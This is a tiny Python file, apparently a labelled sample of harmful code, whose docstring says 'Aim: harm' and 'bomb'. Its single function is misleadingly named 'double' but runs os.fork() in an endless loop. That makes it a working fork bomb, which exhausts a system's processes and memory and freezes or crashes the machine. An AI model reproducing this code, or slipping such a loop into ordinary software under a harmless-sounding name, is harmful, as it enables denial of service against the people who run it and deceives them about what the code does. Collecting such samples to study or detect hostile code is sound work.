"""Forks without end.

Aim: harm
Stock: skip (bomb)
"""
import os


def double(x):
    while True:
        os.fork()
